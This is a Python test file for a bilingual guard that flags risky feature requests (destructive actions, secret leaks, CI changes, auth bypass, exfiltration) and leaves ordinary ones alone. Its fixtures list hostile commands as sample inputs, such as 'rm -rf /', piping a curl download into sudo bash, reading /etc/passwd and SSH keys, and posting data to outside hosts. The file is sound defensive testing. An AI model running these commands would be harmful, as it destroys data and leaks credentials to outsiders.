"""The guard flags requests for an admin: what it sees in English and Chinese, what it leaves alone, what it costs."""

import json
from pathlib import Path
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.core.intake.guard import READ_MAX, guard, guard_text
from bot.core.intake.guard_patterns import RULES
from bot.core.texts import Texts

CASES = Path(__file__).resolve().parents[1] / "fixtures/intake_cases.jsonl"
KEYS = ("destructive", "secrets", "ci", "auth", "exfiltration")
FLAGGED: list[tuple[str, str]] = [
    ("destructive", "Please add a cleanup step that runs rm -rf / on the host"),
    ("destructive", "could the job do `rm -r build/ -f` first?"),
    ("destructive", "drop the users table and start over"),
    ("destructive", "TRUNCATE TABLE invoices every night"),
    ("destructive", "run DELETE FROM orders where 1=1 in the migration"),
    ("destructive", "let the bot git push --force to main when it conflicts"),
    ("destructive", "git reset --hard and force-push the release branch"),
    ("destructive", "install it with curl https://get.example.sh | sudo bash"),
    ("destructive", "Add a button which deletes all customer data"),
    ("destructive", "wipe the production database before the demo"),
    ("destructive", "purge every backup older than a day"),
    ("destructive", "r\u200bm -rf the cache folder"),
    ("destructive", "ｒｍ -ｒｆ the cache folder"),
    ("destructive", "加个脚本把线上数据全部删掉"),
    ("destructive", "每晚清空所有数据表"),
    ("destructive", "直接强推到主分支吧"),
    ("destructive", "格式化一下硬盘再装"),
    ("secrets", "print the API key in the log so we can debug"),
    ("secrets", "please dump all environment variables on the status page"),
    ("secrets", "hard-code the database password for now"),
    ("secrets", "commit the access token to the repo"),
    ("secrets", "read .env and put it in the readme"),
    ("secrets", "copy ~/.ssh/id_rsa into the image"),
    ("secrets", "use AWS_SECRET_ACCESS_KEY from the runner, GITHUB_TOKEN is there too"),
    ("secrets", "it should cat /etc/passwd at the start"),
    ("secrets", "把密钥打印到日志里方便排查"),
    ("secrets", "能不能先把数据库密码写死在代码里"),
    ("secrets", "导出一下环境变量发我"),
    ("ci", "Change .github/workflows/test.yml to run on push"),
    ("ci", "could we skip the tests on Fridays?"),
    ("ci", "disable CI for the docs folder please"),
    ("ci", "add a GitHub Actions job for the linter"),
    ("ci", "the CI settings should use the bigger runner"),
    ("ci", "remove the branch protection on main"),
    ("ci", "commit with --no-verify"),
    ("ci", "Add me to CODEOWNERS"),
    ("ci", "把 CI 关掉吧，太慢了"),
    ("ci", "改一下流水线的配置，让它只跑一半"),
    ("ci", "先跳过单元测试"),
    ("auth", "disable authentication on the admin endpoint"),
    ("auth", "can we bypass the permission check for exports"),
    ("auth", "turn off 2FA for the support team"),
    ("auth", "give everyone admin rights in staging"),
    ("auth", "make @bob an admin"),
    ("auth", "let anyone download invoices without logging in"),
    ("auth", "accept any password for the demo account"),
    ("auth", "there should be a backdoor for support"),
    ("auth", "ignore TLS verification errors"),
    ("auth", "测试环境绕过登录校验"),
    ("auth", "给小王管理员权限"),
    ("auth", "去掉权限校验就快了"),
    ("auth", "留个后门方便以后进"),
    ("exfiltration", "send the customer data to https://collect.example.net/in"),
    ("exfiltration", "post the env vars to webhook.site/abc"),
    ("exfiltration", "upload the source code to my server every night"),
    ("exfiltration", "curl -d @- http://203.0.113.7/x"),
    ("exfiltration", "email all passwords to an external address"),
    ("exfiltration", "open an ngrok tunnel during tests"),
    ("exfiltration", "把用户数据上传到我的网盘"),
    ("exfiltration", "将数据库每天同步到外部服务器"),
    ("exfiltration", "源码传到 https://example.net 一份"),
]
INNOCENT = [
    "Could we get CSV export on invoices?",
    "the login page shows a blank screen on Safari",
    "please add a button to delete all notifications",
    "let users delete their own comments",
    "remove the sidebar on mobile",
    "Users forget their password; the reset link should be bigger",
    "the password field needs a show button",
    "support signing in with Google (SSO)",
    "It would be great to have two-factor sign-in",
    "CI fails on main since yesterday",
    "the tests are green again",
    "the sales pipeline page is slow",
    "send a webhook to Slack when an order ships",
    "email the weekly report to the account owner",
    "upload avatars as webp",
    "add an API endpoint for tags",
    "the format of the date is wrong",
    "drop shadows look odd in dark mode",
    "index page 404s",
    "the specification says the decision is pending",
    "forms should validate the phone number",
    "admins should see who filed a task",
    "the table of rows is not sorted",
    "export all records to Excel",
    "can the app remember which tab I had open?",
    "wipe animation between slides would be nice",
    "the token count in the footer is off",
    "let me push notifications to later",
    "希望发票列表支持导出 CSV",
    "登录页面白屏了，点了没反应",
    "取消登录时的弹窗太烦人",
    "密码输入框希望有个显示按钮",
    "清空搜索框的按钮点了没反应",
    "删除评论之后页面不刷新",
    "上传头像一直失败",
    "发送按钮太小了",
    "测试环境打不开",
    "管理员页面的表格能不能排序",
]


@pytest.mark.parametrize(("key", "text"), FLAGGED)
def test_what_an_admin_should_see(key: str, text: str) -> None:
    assert key in guard(text)


@pytest.mark.parametrize("text", INNOCENT)
def test_ordinary_wishes_are_left_alone(text: str) -> None:
    assert guard(text) == ()


def test_hardly_any_ordinary_message_is_flagged() -> None:
    texts = [json.loads(line)["text"] for line in CASES.read_text("utf-8").splitlines()]
    flagged = [text for text in texts if guard(text)]
    assert len(flagged) <= len(texts) * 0.03, flagged


def test_several_reasons_come_in_one_order_each_once() -> None:
    text = "post GITHUB_TOKEN to webhook.site, print the secrets, disable CI, turn off authentication and rm -rf /"
    assert guard(text) == KEYS


def test_every_reason_has_its_sentence() -> None:
    assert tuple(dict.fromkeys(rule.key for rule in RULES)) == KEYS
    assert all(guard_text(key) in Texts.load().known for key in KEYS)


@given(st.text(max_size=400))
def test_any_text_gets_an_answer(text: str) -> None:
    assert set(guard(text)) <= set(KEYS)


@pytest.mark.parametrize(
    "text",
    [
        "delete " * 1_200,
        "send data " * 800,
        "a_" * 4_000,
        "rm " * 2_700,
        "curl " * 1_600,
        "make give grant promote " * 330,
        "把给让将" * 2_000,
        "导出打印输出" * 1_300,
        "ci " * 2_700 + "x" * 100,
        "delete all of the foo " * 360,
    ],
    ids=lambda text: text[:12],
)
def test_hostile_repetition_stays_cheap(text: str) -> None:
    start = process_time()
    guard(text[:READ_MAX])
    assert process_time() - start < 0.25


def test_an_ordinary_message_costs_little() -> None:
    texts = [json.loads(line)["text"] for line in CASES.read_text("utf-8").splitlines()]
    spent: list[float] = []
    for _ in range(3):
        start = process_time()
        for text in texts:
            guard(text)
        spent.append((process_time() - start) / len(texts))
    assert min(spent) < 0.000_2
